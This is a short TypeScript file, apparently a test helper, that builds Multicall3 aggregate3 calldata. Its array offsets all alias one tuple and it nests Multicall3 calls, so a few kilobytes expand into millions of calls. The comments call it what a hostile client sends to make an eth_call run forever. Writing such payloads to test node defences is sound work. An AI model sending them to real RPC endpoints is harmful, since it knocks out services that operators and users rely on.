/**
 * Calldata of Multicall3's `aggregate3` whose `count` calls all point at one tuple (an ABI offset
 * may be reused), each calling `target` with `callData`: a few kilobytes that, nested, ask for
 * millions of calls. What a hostile client sends to make one `eth_call` run for ever.
 */
export function aliasedAggregate3(count: number, target: string, callData: string): `0x${string}` {
  const word = (n: bigint | number) => BigInt(n).toString(16).padStart(64, '0');
  const inner = callData.slice(2);
  const length = inner.length / 2;
  const tuple = `${word(BigInt(target))}${word(1)}${word(96)}${word(length)}${inner.padEnd(Math.ceil(length / 32) * 64, '0')}`;
  // aggregate3's selector, the array's offset and length, then `count` offsets all to the one tuple after them.
  return `0x82ad56cb${word(32)}${word(count)}${word(32 * count).repeat(count)}${tuple}`;
}

/** `levels` of `aliasedAggregate3` of `count` calls each, Multicall3 calling itself, `leaf` called at the bottom. */
export function nestedAliasedAggregate3(
  multicall3: string,
  levels: number,
  count: number,
  leaf: { readonly target: string; readonly callData: string },
): `0x${string}` {
  let data = aliasedAggregate3(count, leaf.target, leaf.callData);
  for (let level = 1; level < levels; level++) data = aliasedAggregate3(count, multicall3, data);
  return data;
}
